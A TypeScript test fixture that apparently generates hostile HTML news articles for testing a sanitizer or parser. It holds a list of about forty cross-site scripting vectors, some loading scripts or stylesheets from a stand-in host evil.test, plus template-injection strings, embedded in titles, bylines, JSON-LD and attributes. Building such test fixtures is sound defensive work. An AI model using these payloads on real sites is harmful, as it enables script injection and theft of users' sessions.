/** Ways to make a browser run a program, each calling `pwned`; after well-known cheat sheets. */
const VECTORS = [
  '<script>pwned()</script>',
  '<ScRiPt src="https://evil.test/x.js"></ScRiPt>',
  '<img src=x onerror=pwned()>',
  '<img src="x" onerror="&#112;wned()">',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<math><mtext><img src=x onerror=pwned()></mtext></math>',
  '<body onload=pwned()>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<a href="javascript:pwned()" autofocus onfocus=pwned()>baca</a>',
  '<a href="java\tscript:pwned()">baca</a>',
  '<form action="javascript:pwned()"><input type=submit></form>',
  '<input onfocus=pwned() autofocus>',
  '<details open ontoggle=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<marquee onstart=pwned()>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css"; * { background: url(https://evil.test/x) }</style>',
  '<base href="https://evil.test/">',
  '<template><script>pwned()</script></template>',
  '</title><script>pwned()</script>',
  '</textarea><script>pwned()</script>',
  '</script><script>pwned()</script>',
  '--><script>pwned()</script><!--',
  ']]><script>pwned()</script>',
  '"><script>pwned()</script>',
  "' onmouseover=pwned() x='",
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '<%= pwned() %>',
  '\u202e<script>pwned()</script>\u202c',
  '＜script＞pwned()＜/script＞',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  '<svg><style><img src=x onerror=pwned()></style></svg>',
] as const

/** Where an article may carry it. */
const PLACES = [
  'title',
  'body',
  'quotation',
  'speaker',
  'byline',
  'caption',
  'outlet',
  'markup',
  'json-ld',
  'attribute',
] as const

/** Ways of hiding it: as it is, escaped once and twice, in capitals, cut by a NUL. */
const DISGUISES: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => vector.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
]

export interface HostileArticle {
  readonly name: string
  readonly url: string
  readonly html: string
}

/** A plausible article with the vector in one place of it. */
const toHtml = (vector: string, place: (typeof PLACES)[number], number: number): string => {
  const at = (here: (typeof PLACES)[number], plain: string) => (place === here ? `${plain} ${vector}` : plain)
  const facts = JSON.stringify({
    '@type': 'NewsArticle',
    headline: at('json-ld', `Pasar ${number}`),
    author: at('json-ld', 'Dini'),
  })
  return `<!doctype html><html><head><title>${at('title', `Pasar Teluk Rawa ${number}`)}</title>
    <meta property="og:site_name" content="${at('outlet', 'Kabar Teluk').replaceAll('"', '&quot;')}">
    <meta name="author" content="${at('byline', 'Dini Lestari').replaceAll('"', '&quot;')}">
    <script type="application/ld+json">${place === 'json-ld' ? facts : '{}'}</script></head>
    <body ${place === 'attribute' ? vector : ''}><article><h1>${at('title', `Pasar Teluk Rawa ${number}`)}</h1>
    <p>Pasar ikan nomor ${number} dipindahkan ke dermaga baru pada awal bulan, kata pengelola. ${at('body', '')}</p>
    <p>“Semua pedagang lama mendapat lapak ${number} ${at('quotation', 'di dermaga')},” kata Kepala Dinas ${at('speaker', 'Wening Astuti')}.</p>
    ${place === 'markup' ? vector : ''}
    <figure><figcaption>${at('caption', 'Suasana dermaga pada pagi hari.')}</figcaption></figure>
    <p>Menurut Wening, sewa lapak tidak naik sampai akhir tahun karena dermaga dibangun dengan dana daerah.</p>
    </article></body></html>`
}

/** `count` hostile articles, no two alike: every vector in every place under every disguise, as far as that goes. */
export const makeHostileArticles = (count: number): readonly HostileArticle[] =>
  Array.from({ length: count }, (_, number) => {
    const vector = VECTORS[number % VECTORS.length] ?? ''
    const place = PLACES[Math.floor(number / VECTORS.length) % PLACES.length] ?? 'body'
    const disguise = DISGUISES[Math.floor(number / (VECTORS.length * PLACES.length)) % DISGUISES.length]
    const html = toHtml(disguise?.(vector) ?? vector, place, number)
    return { name: `jahat-${number}.html`, url: `https://jahat.test/berita/${number}`, html }
  })
